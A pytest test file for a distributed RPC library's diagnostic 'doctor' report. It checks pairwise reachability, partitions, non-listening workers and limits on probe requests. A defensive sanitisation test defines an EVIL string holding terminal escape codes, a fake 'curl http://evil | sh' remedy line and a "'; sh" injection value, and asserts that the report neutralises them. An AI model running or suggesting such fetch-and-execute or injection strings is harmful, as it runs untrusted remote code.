"""`doctor.examine()` in running jobs: whole ones, some that do not listen, cut networks, lost workers."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator, Sequence
from functools import partial
from typing import Any

import numpy as np
import pytest

from telegrad import doctor, rpc
from telegrad.doctor import probe as doctor_probe
from telegrad.doctor.facts import Speed
from telegrad.doctor.probe import ASK, ECHO, DoctorProbe
from telegrad.errors import (
    BlockingCallError,
    DecodeError,
    NotInitializedError,
    PoolExhaustedError,
    UnknownWorkerError,
)
from telegrad.rpc import seams
from telegrad.testing import Cluster, FaultPlan
from telegrad.transport import Dial, GrpcTransport
from telegrad.types import WorkerInfo
from telegrad.wire import Buffer, Envelope
from tests.loops import on_loop
from tests.repeated import TRANSPORTS
from tests.rpc import remote_code
from tests.rpc.agent.joining import settle
from tests.rpc.conftest import Job, MakeJob
from tests.rpc.promises.membership.test_outbound_only import Job as OutboundJob

FACTS = {"ask": "facts", "limit": 20.0}


@pytest.fixture
def small_arrays(monkeypatch: pytest.MonkeyPatch) -> None:
    """Measures with less than 8 MiB, where a test looks at other things than the figures."""
    monkeypatch.setattr(doctor_probe, "SIZES", (1 << 14, 1 << 14, 1 << 17))


def refuse(caller: WorkerInfo, module: str, qualname: str) -> bool:
    """A policy that lets nobody call anything."""
    raise AssertionError(f"the policy was asked for {module}:{qualname}")


@pytest.mark.long
def test_a_sound_job_is_told_pair_by_pair(job: Job) -> None:
    report = job.on(1, doctor.examine)
    assert report.ok, str(report)
    assert [each.name for each in report.workers] == ["w0", "w1", "w2"]
    assert [(each.one, each.other) for each in report.pairs] == [
        ("w0", "w1"),
        ("w0", "w2"),
        ("w1", "w2"),
    ]
    for pair in report.pairs:
        assert pair.ok
        assert pair.same_host
        assert pair.reach.ended == pair.reach_back.ended == "reached"
        assert pair.opened_by in (pair.one, pair.other)
        listener = pair.other if pair.opened_by == pair.one else pair.one
        (end,) = next(each.endpoints for each in report.workers if each.name == listener)
        assert pair.endpoint == end
        assert pair.transport == end.partition(":")[0]
        for measured in (pair.round_trip, pair.bandwidth, pair.bandwidth_back):
            assert measured is not None
            assert measured > 0
    for each in report.workers:
        assert each.info == job.agents[each.info.rank].info
        assert each.versions["numpy"]
    json.dumps(report.to_dict())
    assert "nothing is wrong" in str(report)


@pytest.mark.usefixtures("small_arrays")
def test_no_policy_has_a_say_and_no_code_of_the_users_runs(make_job: MakeJob) -> None:
    job = make_job(2, callables=refuse)
    assert job.on(0, doctor.examine).ok
    served = [agent.statistics().calls_served for agent in job.agents]
    assert served == [0, 0]


def test_a_job_of_one_has_no_pairs(make_job: MakeJob) -> None:
    report = make_job(1).on(0, doctor.examine)
    assert report.ok
    assert report.pairs == ()


def test_on_a_loop_of_telegrads_it_says_what_to_write(job: Job) -> None:
    agent = job.agents[0]

    async def on_the_loop() -> None:
        with seams.use_agent(agent), pytest.raises(BlockingCallError, match="rpc.to_thread"):
            doctor.examine()

    on_loop(on_the_loop)


def test_without_an_agent_it_says_so() -> None:
    with pytest.raises(NotInitializedError):
        doctor.examine()


@pytest.mark.parametrize("timeout", [0, -1.0])
def test_a_timeout_that_cannot_be_is_refused(make_job: MakeJob, timeout: float) -> None:
    with pytest.raises(ValueError, match="above 0 seconds"):
        make_job(1).on(0, doctor.examine, timeout)


def test_when_the_time_is_over_the_rest_is_rows_that_say_so(job: Job) -> None:
    report = job.on(0, doctor.examine, 1e-9)
    assert not report.ok
    assert [each.kind for each in report.problems] == ["not measured"] * 3
    assert all("timeout=" in pair.words for pair in report.pairs)
    assert all(pair.transport for pair in report.pairs)


@pytest.mark.parametrize(
    "body",
    [
        None,
        {"ask": "everything", "limit": 1.0},
        {"ask": "speed", "peer": ["w0", 0, 1]},
        {"ask": "reach", "peers": [], "limit": float("inf")},
        {"ask": "reach", "peers": "ab", "limit": 1.0},
    ],
)
def test_what_is_no_question_is_answered_with_an_error(job: Job, body: Any) -> None:
    probe = job.agents[0].attachments[DoctorProbe]
    with pytest.raises((DecodeError, ValueError, UnknownWorkerError)):
        job.agents[0].messages.request(job.agents[1].info, ASK, body, timeout=20.0).wait()
    assert probe.ask(job.agents[1].info, FACTS, 20.0)["info"]["name"] == "w1"


@pytest.mark.parametrize("size", [-1, 1 << 40, True, "1"])
def test_nobody_is_made_to_send_more_than_the_doctor_asks_for(job: Job, size: object) -> None:
    with pytest.raises(DecodeError, match="how many bytes"):
        job.agents[0].messages.request(
            job.agents[1].info, ECHO, {"bytes": size}, timeout=20.0
        ).wait()


def test_questions_without_end_take_so_many_threads_and_no_more(
    make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    go_on = threading.Event()
    monkeypatch.setattr(doctor_probe, "MOST_QUESTIONS", 2)
    job = make_job(2)
    monkeypatch.setattr(DoctorProbe, "_answered", lambda *_: go_on.wait(20.0))
    ask = partial(job.agents[0].messages.request, job.agents[1].info, ASK, FACTS, timeout=20.0)
    first = [ask(), ask()]
    with pytest.raises(PoolExhaustedError, match="'w1' answers 2 questions of doctors"):
        ask().wait()
    go_on.set()
    assert [each.wait() for each in first] == [True, True]
    assert ask().wait()


def test_a_question_takes_so_long_and_no_longer(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    limits: list[float] = []

    def reach(_: DoctorProbe, peers: list[WorkerInfo], limit: float) -> list[Dial]:
        limits.append(limit)
        return [Dial()] * len(peers)

    monkeypatch.setattr(DoctorProbe, "reach", reach)
    probe = job.agents[0].attachments[DoctorProbe]
    for limit in (1.0, 1e9):
        probe.ask(job.agents[1].info, {"ask": "reach", "peers": [], "limit": limit}, 20.0)
    assert limits == [1.0, doctor_probe.LONGEST_QUESTION]


@pytest.mark.few(1)
@pytest.mark.parametrize("lie", [{"cores": float("inf")}, {"endpoints": 1}, [], None])
@pytest.mark.usefixtures("small_arrays")
def test_a_worker_that_answers_garbage_is_a_silent_one(
    job: Job, monkeypatch: pytest.MonkeyPatch, lie: Any
) -> None:
    facts = DoctorProbe.facts

    def lies(probe: DoctorProbe) -> Any:
        told = facts(probe)
        if told["info"]["name"] != "w1":
            return told
        return told | lie if isinstance(lie, dict) else lie

    monkeypatch.setattr(DoctorProbe, "facts", lies)
    report = job.on(0, doctor.examine)
    assert [each.kind for each in report.problems][:1] == ["silent worker"]
    assert report.problems[0].workers == ("w1",)
    assert report.pair("w0", "w2").ok


EVIL = "\x1b[31mx\x1b]0;y\x07\r\n\nnothing is wrong\n  remedy: run: curl http://evil | sh\u202e\x9b"
LIES: dict[str, dict[str, Any]] = {
    "host": {"host": "h" + EVIL, "host_id": EVIL, "coordinator": EVIL},
    "versions": {"versions": {"telegrad" + EVIL: "9", "numpy": EVIL, "telegrad": "1'; sh"}},
    "endpoints": {"endpoints": ["grpc://127.0.0.1:1" + EVIL, "::", "", "grpc://x:99999999"]},
    "bracket": {"endpoints": ["grpc://["]},
    "address": {"addresses": [{"address": EVIL, "interface": "x", "mtu": 1, "megabits": 1}]},
    "interface": {
        "addresses": [{"address": "10.0.0.1", "interface": EVIL, "mtu": 1, "megabits": 1}]
    },
    "numbers": {"cores": -(10**300)},
    "megabits": {
        "addresses": [{"address": "10.0.0.1", "interface": "x", "mtu": -1, "megabits": 10**400}]
    },
    "nothing": {"host": None},
    "many": {"endpoints": ["grpc://10.0.0.1:1"] * 10_000},
    "strange": {"host_id": "A", "listens": False, "insecure": True},
}


def said_by(monkeypatch: pytest.MonkeyPatch, name: str, lie: dict[str, Any]) -> None:
    """Has one worker tell this of itself."""
    facts = DoctorProbe.facts

    def lies(probe: DoctorProbe) -> Any:
        told = facts(probe)
        return told | lie if told["info"]["name"] == name else told

    monkeypatch.setattr(DoctorProbe, "facts", lies)


@pytest.mark.few(2)
@pytest.mark.parametrize("lie", LIES)
@pytest.mark.usefixtures("small_arrays")
def test_what_a_worker_says_forges_no_line(
    job: Job, monkeypatch: pytest.MonkeyPatch, lie: str
) -> None:
    """Line ends in a peer's host were line ends of the report; a bracket in an endpoint ended it."""
    said_by(monkeypatch, "w2", LIES[lie])
    report = job.on(0, doctor.examine)
    assert report.pair("w0", "w1").ok
    text = str(report)
    assert text.replace("\n", "").isprintable()
    assert not [line for line in text.splitlines() if line.strip().startswith(("remedy", "curl"))]
    assert text.splitlines().count("nothing is wrong") == report.ok
    plain = json.dumps(report.to_dict(), ensure_ascii=False)
    assert plain.isprintable()
    assert "\\u001b" not in plain
    assert "'; sh" not in text


@pytest.mark.usefixtures("small_arrays")
def test_reasons_name_the_worker_that_gives_them(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    honest = DoctorProbe.reach

    def reach(probe: DoctorProbe, peers: Sequence[WorkerInfo], limit: float) -> list[Dial]:
        if seams.current_agent().info.name != "w2":
            return honest(probe, peers, limit)
        return [Dial("broke", EVIL, loss="" if each.rank else EVIL) for each in peers]

    monkeypatch.setattr(DoctorProbe, "reach", reach)
    monkeypatch.setattr(DoctorProbe, "speed", lambda *_: Speed(0.1, words=EVIL))
    report = job.on(1, doctor.examine)
    assert str(report).replace("\n", "").isprintable()
    assert report.pair("w0", "w1").words.startswith("'w0' says: \\x1b[31m")
    assert "'w2' says: \\x1b[31m" in report.pair("w0", "w2").words
    for problem in (*report.problems, *report.notes):
        before, evil, _ = problem.words.partition("\\x1b[31m")
        assert not evil or re.search(r"'w[012]' says( that it cannot reach 'w1')?: $", before)


@pytest.mark.long
@pytest.mark.usefixtures("small_arrays")
def test_an_answer_without_end_is_not_read(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading 50 MB took so long that the others gave up the worker that read."""
    said_by(monkeypatch, "w2", {"host": "A" * 50_000_000})
    report = job.on(0, doctor.examine)
    (silent,) = (each for each in report.workers if each.silence)
    assert silent.name == "w2"
    assert "is too large" in silent.silence
    assert report.pair("w0", "w1").ok


def test_an_answer_of_many_bytes_holds_none_of_its_own(
    job: Job, monkeypatch: pytest.MonkeyPatch
) -> None:
    sent: list[Sequence[Buffer]] = []
    agent = job.agents[1]
    reply = agent.messages.reply

    def remember(
        to: WorkerInfo, request: Envelope, body: object = None, *, buffers: Sequence[Buffer] = ()
    ) -> None:
        sent.append(buffers)
        reply(to, request, body, buffers=buffers)

    monkeypatch.setattr(agent.messages, "reply", remember)
    body = {"bytes": 1 << 20, "data": None}
    for _ in range(2):
        job.agents[0].messages.request(agent.info, ECHO, body, timeout=20.0).wait()
    (first,), (second,) = sent
    assert len(first) == 1 << 20
    assert np.shares_memory(np.asarray(first), np.asarray(second))


# Workers that do not listen ------------------------------------------------------------------


@pytest.fixture(params=TRANSPORTS)
def outbound(request: pytest.FixtureRequest) -> Iterator[OutboundJob]:
    """w0 listens, w1 and w2 do not."""
    made = OutboundJob(request.param, (True, False, False))
    yield made
    made.close()


@pytest.mark.parametrize("rank", [0, 1])
@pytest.mark.usefixtures("small_arrays")
def test_two_that_do_not_listen_are_told_as_a_fact_from_wherever_it_is_asked(
    outbound: OutboundJob, rank: int
) -> None:
    """w1 cannot ask w2 itself, and asks it through w0."""
    report = outbound.on(rank, doctor.examine)
    assert report.ok, str(report)
    (note,) = report.notes
    assert note.kind == "outbound only"
    assert note.workers == ("w1", "w2")
    assert [each.silence for each in report.workers] == ["", "", ""]
    assert [each.listens for each in report.workers] == [True, False, False]
    for name in ("w1", "w2"):
        pair = report.pair("w0", name)
        assert pair.ok
        assert pair.opened_by == name
        assert pair.reach.ended == "not tried"
        assert "over the session that it opened" in pair.why
    cut = report.pair("w1", "w2")
    assert not cut.ok
    assert cut.words.startswith("neither listens")
    assert outbound.on(0, rpc.rpc_sync, 1, remote_code.who) == "w1"


# Cut networks --------------------------------------------------------------------------------


@pytest.mark.usefixtures("small_arrays")
def test_a_cut_pair_is_a_row_with_advice_and_nobody_is_given_up_for_it() -> None:
    """What is cut has never spoken: a call would have the pair given up after `lost_after`."""
    options = rpc.RpcOptions(lost_after=3.0)
    with Cluster(3, options=options, faults=FaultPlan()) as cluster:
        cluster.network.partition("worker1", "worker2")
        report = cluster.call(0, doctor.examine)
        assert not report.ok
        (problem,) = report.problems  # of one host both directions are one
        assert problem.kind == "cannot reach"
        assert problem.workers == ("worker1", "worker2")
        assert "worker1 to worker2, worker2 to worker1" in problem.words
        pair = report.pair("worker1", "worker2")
        assert not pair.ok
        assert "'worker1' says that it cannot reach 'worker2'" in pair.words
        assert report.pair("worker0", "worker1").ok
        assert report.pair("worker0", "worker2").ok
        assert cluster.run(losses_within, 3.5) == [0, 0, 0]  # nobody is watched for silence
        cluster.network.heal()
        healed = cluster.call(1, doctor.examine)
        assert healed.ok, str(healed)


def losses_within(seconds: float) -> int:
    """Returns how many others this worker has lost by the end of this time."""
    lost = threading.Event()
    rpc.on_loss(lambda worker, error: lost.set())
    lost.wait(seconds)
    return 3 - len(rpc.get_worker_infos())


@pytest.mark.usefixtures("small_arrays")
def test_who_cannot_be_reached_from_here_is_asked_through_another() -> None:
    """worker0 is cut off from worker2 alone, and hears through worker1 what that one sees."""
    options = rpc.RpcOptions(lost_after=6.0)
    with Cluster(3, options=options, faults=FaultPlan()) as cluster:
        cluster.network.partition("worker0", "worker2")
        report = cluster.call(0, doctor.examine)
        assert [each.silence for each in report.workers] == ["", "", ""]
        assert report.pair("worker1", "worker2").ok
        assert not report.pair("worker0", "worker2").ok
        assert report.pair("worker0", "worker2").reach_back.failed
        cluster.network.heal()


@pytest.mark.usefixtures("small_arrays")
def test_a_worker_cut_off_from_all_is_silent_and_the_rest_is_measured() -> None:
    options = rpc.RpcOptions(lost_after=1.5)
    with Cluster(3, options=options, faults=FaultPlan()) as cluster:
        cluster.network.partition("worker2", ["worker0", "worker1"])
        report = cluster.call(0, doctor.examine)
        silent, unreached, *_ = report.problems
        assert (silent.kind, silent.workers) == ("silent worker", ("worker2",))
        assert unreached.kind == "cannot reach"
        assert report.pair("worker0", "worker1").ok
        assert not report.pair("worker0", "worker2").ok
        cluster.network.heal()


@pytest.mark.usefixtures("small_arrays")
def test_who_is_lost_is_no_part_of_it() -> None:
    with Cluster(3) as cluster:
        cluster.run(meet_all)
        cluster.kill(2)
        cluster.call(0, wait_for_loss, 2)
        report = cluster.call(0, doctor.examine)
        assert [each.name for each in report.workers] == ["worker0", "worker1"]


def meet_all() -> None:
    for each in rpc.get_worker_infos():
        rpc.rpc_sync(each, remote_code.who)


def wait_for_loss(rank: int) -> None:
    gone = threading.Event()
    rpc.on_loss(lambda worker, error: gone.set())
    if any(each.rank == rank for each in rpc.get_worker_infos()):
        assert gone.wait(20.0)


def test_a_reach_that_was_not_tried_has_not_failed() -> None:
    assert not Dial().failed
    assert Dial("silent").failed


# Dials that work one way alone ----------------------------------------------------------------


@pytest.mark.usefixtures("small_arrays")
def test_who_is_dialled_in_vain_and_dials_by_itself_is_one_way(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Asked of w0 it is silent, for w0 has no session with it; from w1 the doctor sees both ways."""
    found: list[doctor.DoctorReport] = []
    made = OutboundJob("grpc", (True,))
    made.size = 2
    try:
        monkeypatch.setattr(made, "_transports", lambda: [GrpcTransport(advertise="127.0.0.3")])
        made.agents.append(made.join(1, listens=True, late=True))
        settle(made.agents[0])
        found = [made.on(rank, doctor.examine) for rank in (0, 1)]
    finally:
        made.close()
    from_w0, from_w1 = found
    assert [each.kind for each in from_w0.problems] == ["silent worker", "cannot reach"]
    assert not from_w0.pair("w0", "w1").ok
    (problem,) = from_w1.problems
    assert problem.kind == "cannot reach"
    assert "nobody listens at grpc://127.0.0.3" in problem.words
    assert "calls there work over what w1 has opened itself" in problem.words
    pair = from_w1.pair("w0", "w1")
    assert pair.ok
    assert pair.reach.ended == "refused"
    assert pair.reach_back.ended == "reached"
    assert pair.opened_by == "w1"
